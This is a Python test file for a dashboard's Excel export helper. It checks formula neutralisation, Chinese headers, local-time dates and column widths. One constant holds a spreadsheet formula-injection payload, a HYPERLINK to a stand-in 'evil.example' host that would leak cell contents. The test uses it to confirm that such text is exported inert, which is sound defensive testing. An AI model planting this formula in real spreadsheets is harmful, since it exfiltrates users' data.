"""Exports: no live formulas (text a spreadsheet would run is written as text), Chinese headers only,
real Excel date-times in the region's local time, and columns wide enough to read."""

from __future__ import annotations

import datetime as dt
import io
import re
from zoneinfo import ZoneInfo

import openpyxl
import pandas as pd

from dashboard.components import FORMULA_PREFIXES, TIME_FORMAT, ExcelColumn, excel_bytes
from geo.settings import PROJECT_ROOT

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&T1&U1,"点击查看详情")'


def test_formula_like_text_is_exported_as_text_and_numbers_stay_numbers() -> None:
    texts = [HYPERLINK, "+86 138", "-1+2", "@SUM(A1)", "\t=1+1", "\r=1+1", "解放街12号", "a=b"]
    frame = pd.DataFrame({"案情描述": texts, "数量": [-5, 3, -1.5, 0, 1, 2, 7, 8]})
    book = openpyxl.load_workbook(io.BytesIO(excel_bytes({"案件": frame}, {"案情描述": "案情描述", "数量": "数量"})))
    sheet = book["案件"]
    for row, expected in enumerate(texts, start=2):
        cell = sheet.cell(row=row, column=1)
        assert cell.data_type == "s", (expected, cell.data_type)  # a string, not "f" (formula)
        assert cell.value == expected  # the text itself is kept
        if expected.startswith(FORMULA_PREFIXES):
            assert cell.quotePrefix  # marked as typed text, as Excel does for '=…
    numbers = [sheet.cell(row=row, column=2) for row in range(2, 2 + len(texts))]
    assert [c.value for c in numbers] == [-5, 3, -1.5, 0, 1, 2, 7, 8]
    assert all(c.data_type == "n" for c in numbers)


def test_every_workbook_is_written_by_the_one_helper() -> None:
    """No module other than dashboard/components.py writes a workbook for users (the helper neutralises formulas)."""
    writers = re.compile(r"\.to_excel\(|ExcelWriter\(|openpyxl\.Workbook\(|xlsxwriter")
    offenders = [
        str(path.relative_to(PROJECT_ROOT))
        for folder in ("dashboard", "layers", "etl", "geo")
        for path in (PROJECT_ROOT / folder).rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8")) and path != PROJECT_ROOT / "dashboard" / "components.py"
    ]
    assert offenders == []


def test_columns_are_chosen_and_named_dates_are_real_local_datetimes_and_widths_fit() -> None:
    """Before, the ranking export carried ``segment_id``/``score``/``row_id`` headers and every date was text."""
    utc = dt.datetime(2025, 3, 1, 1, 30, tzinfo=dt.UTC)  # 09:30 in Wuyi
    frame = pd.DataFrame(
        {
            "row_id": ["7", "8"],
            "name": ["解放街", "城东路（熟溪路至壶山路）"],
            "received_at": pd.Series([utc, pd.NaT], dtype="datetime64[ns, UTC]"),
            "due_at": [utc.astimezone(ZoneInfo("Asia/Shanghai")), None],  # aware datetimes in an object column
            "day": [dt.date(2025, 3, 1), dt.date(2025, 3, 2)],
            "score": [0.5, 0.25],
        }
    )
    columns = {"name": "路段", "received_at": "上报时间", "due_at": "办理期限", "day": "日期"}
    sheet = openpyxl.load_workbook(io.BytesIO(excel_bytes({"重点路段": frame}, columns))).active
    assert [c.value for c in sheet[1]] == ["路段", "上报时间", "办理期限", "日期"]  # no id, no score
    received, due, day = sheet["B2"], sheet["C2"], sheet["D2"]
    assert received.is_date and received.value == dt.datetime(2025, 3, 1, 9, 30)
    assert received.number_format == "yyyy-mm-dd hh:mm"
    assert due.is_date and due.value == dt.datetime(2025, 3, 1, 9, 30)
    assert day.is_date and day.number_format == "yyyy-mm-dd" and day.value == dt.datetime(2025, 3, 1)
    assert sheet["B3"].value is None and sheet["C3"].value is None  # a missing time is an empty cell
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCD"}
    assert widths["A"] >= 2 * len("城东路（熟溪路至壶山路）")  # CJK characters are two wide
    assert all(18 <= widths[letter] <= 60 for letter in "BC")
    assert sheet.freeze_panes == "A2"


def test_a_column_can_show_only_the_time_of_a_datetime() -> None:
    """The chief's task sheet (dashboard/pages/street.py) shows arrival and departure as times."""
    at = dt.datetime(2025, 3, 1, 8, 5, tzinfo=ZoneInfo("Asia/Shanghai"))
    stops = pd.DataFrame(
        {
            "seq": [1],
            "segment_name": ["解放街"],
            "arrive_at": pd.Series([at]).astype("datetime64[ns, Asia/Shanghai]"),
            "leave_at": pd.Series([at + dt.timedelta(minutes=20)]).astype("datetime64[ns, Asia/Shanghai]"),
            "reasons": ["热点"],
            "visited": ["否"],
            "segment_key": ["k1"],
        }
    )
    arrive = ExcelColumn("到达", TIME_FORMAT)
    columns = {"seq": "序号", "segment_name": "路段", "arrive_at": arrive, "visited": "已巡查"}
    sheet = openpyxl.load_workbook(io.BytesIO(excel_bytes({"巡查任务": stops}, columns))).active
    assert [c.value for c in sheet[1]] == ["序号", "路段", "到达", "已巡查"]
    assert sheet["C2"].is_date and sheet["C2"].number_format == "hh:mm"
    assert sheet["C2"].value == dt.datetime(2025, 3, 1, 8, 5)
